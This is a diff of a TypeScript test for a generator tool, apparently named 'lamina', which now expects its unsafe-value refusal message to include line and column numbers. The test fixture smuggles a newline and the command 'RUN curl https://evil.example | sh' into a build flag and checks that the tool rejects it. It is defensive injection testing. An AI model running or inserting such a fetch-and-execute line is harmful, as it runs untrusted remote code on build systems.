@@ -180,14 +180,14 @@ test('dockerValue: one ENV property per value, read back exactly under BuildKit\
   });
 });
 
-test('`lamina gen` prints the refusal as file: message [generate/unsafe-value], exits 1 and writes nothing', async () => {
+test('`lamina gen` prints the refusal as file:line:col: message [generate/unsafe-value], exits 1 and writes nothing', async () => {
   const root = hostileCatalog(`{ system = 'autotools, flags = ["--x\\nRUN curl https://evil.example | sh"] }`);
   let stdout = '';
   let stderr = '';
   const stream = (append: (s: string) => void) => ({ isTTY: false, write: (c: string) => (append(String(c)), true) }) as unknown as NodeJS.WritableStream;
   const code = await run(['gen'], { stdout: stream((s) => (stdout += s)), stderr: stream((s) => (stderr += s)), env: {} }, root);
   assert.is(code, 1);
-  assert.match(stderr, /^layers\/openssl\/build_directives\.ncl: build\.flags\[0\]: contains a line feed.*\[generate\/unsafe-value\]$/m);
+  assert.match(stderr, /^layers\/openssl\/build_directives\.ncl:\d+:\d+: build\.flags\[0\]: contains a line feed.*\[generate\/unsafe-value\]$/m);
   assert.not.match(stdout, /wrote/);
   assert.not.ok(existsSync(join(root, 'generated')));
 });
